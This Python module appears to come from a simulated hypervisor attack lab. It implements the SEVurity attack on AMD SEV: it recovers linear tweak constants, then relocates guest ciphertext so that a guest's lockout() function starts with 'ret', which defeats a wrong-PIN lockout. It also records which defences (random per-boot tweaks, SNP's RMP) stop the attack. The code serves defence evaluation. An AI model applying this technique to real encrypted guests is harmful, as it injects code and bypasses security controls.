"""A09: SEVurity (Wilke et al., "SEVurity: No Security Without Integrity", IEEE S&P 2020).

First-generation parts tweak each 16-byte block with a linear function of its host physical
address whose constants are shared by every key, the host's SME key included. The hypervisor
recovers them with its own key (hv.attacks.tweak_solver), then moves guest ciphertext: a block
of known plaintext m' copied from q to p (and, under XEX, XORed with T(p)^T(q)) decrypts at p to
m' ^ T(p) ^ T(q). Searching the guest's known image for a block that yields 0xC3 (`ret`) as its
first byte at the start of lockout() disables the service's wrong-PIN lockout: chosen code in an
encrypted guest without its key. Zen 2's random per-boot tweak defeats the first step.
"""

from __future__ import annotations

from hv import boot
from hv.attacks.a05_replay import TRIES, wrong_pin
from hv.attacks.findings import Findings
from hv.attacks.lab import OP_CHECK_PIN, Lab, Request
from hv.attacks.outcome import Outcome
from hv.attacks.tweak_solver import Unsolvable, recover_constants, tweak
from hv.attacks.verdict import Trial, judge
from hv.hw.grants import TweakMode
from hv.hw.addr import GPA
from hv.kvm import Mode, RmpViolation

__all__ = ["ID", "NAME", "PAPER", "PRIMITIVES", "run"]

ID = "A09"
NAME = "SEVurity"
PAPER = "Wilke et al., SEVurity: No Security Without Integrity, IEEE S&P 2020"
PRIMITIVES = ("R", "W", "T")

RET = 0xC3
WRONG, LOCKED = 1, 2


def _pattern(t: int) -> bytes:
    return t.to_bytes(4, "little") * 4


def _plant(lab: Lab, constants: dict[int, int], target_gpa: int) -> tuple[int, int, str] | None:
    """Move a known-plaintext image block onto `target_gpa` so its first byte decrypts to RET.
    Returns (source GPA, delta, "" or why the write was refused) or None."""
    xex = lab.config.tweak is not TweakMode.XE_LINEAR
    p = lab.spa(target_gpa)
    for gpa, data in boot.image_regions(lab.image, lab.config.mem_size):
        for off in range(0, len(data) - 15, 16):
            src = gpa + off
            if src >> 4 == target_gpa >> 4:
                continue
            delta = tweak(constants, p) ^ tweak(constants, lab.spa(src))
            if data[off] ^ (delta & 0xFF) != RET:
                continue
            cells = lab.vm.read_gpa(GPA(src), 16)
            if xex:
                cells = bytes(x ^ y for x, y in zip(cells, _pattern(delta)))
            try:
                lab.vm.write_gpa(GPA(target_gpa), cells)
            except RmpViolation as e:  # SNP: the hypervisor cannot write a guest page at all
                return src, delta, str(e)
            return src, delta, ""
    return None


def _attack(trial: Trial, tweak_mode: TweakMode) -> Findings:
    if trial.mode == Mode.PLAIN:
        return Findings("", na="a plain VM is not encrypted: the hypervisor writes code directly")
    pin = wrong_pin()
    statuses: list[int] = []
    with trial.lab("service", tweak=tweak_mode) as lab:
        try:
            constants = recover_constants(lab.vm.host, tweak_mode)   # before the guest is loaded
        except Unsolvable as e:
            return Findings(f"{tweak_mode.value}: {e}", defence=f"no linear tweak to solve ({tweak_mode.value})")
        lab.launch()
        target = lab.symbols["lockout"]
        planted = _plant(lab, constants, target)

        def script():
            for _ in range(TRIES):
                r = yield Request(OP_CHECK_PIN, pin)
                statuses.append(r.status)

        stop = lab.run(script())
    shown = ", ".join(f"t{b}={constants[b]:#010x}" for b in (4, 5, 6))
    head = f"{tweak_mode.value}: recovered t4..t{max(constants)} with the host key ({shown}, ...)"
    guesses = (pin.to_bytes(4, "little"),)
    if planted is None:
        return Findings(f"{head}; no image block gives a 'ret' at lockout()", achieved=False,
                        guesses=guesses, defence="no block of the known image fits")
    src, delta, refused = planted
    if refused:
        return Findings(f"{head}; the block for lockout() at {target:#x} was found at GPA {src:#x}, "
                        f"but writing it faulted: {refused}", achieved=False, guesses=guesses,
                        defence=f"RMP: {refused}")
    completed = len(statuses) == TRIES and stop.reason == "exit"
    locked = LOCKED in statuses
    after = ("still locked" if locked else "never locked") if completed else \
        f"answered {len(statuses)} of them; {stop.describe()}"
    return Findings(f"{head}; moved the block at GPA {src:#x} onto lockout() at {target:#x} (delta "
                    f"{delta:#010x}) -> 'ret'; after {TRIES} wrong PINs the guest {after}",
                    achieved=completed and not locked, completed=completed, guesses=guesses)


def run(mode: str, *, tweak_mode: TweakMode = TweakMode.XEX_LINEAR) -> Outcome:
    return judge(ID, mode, lambda trial: _attack(trial, tweak_mode))
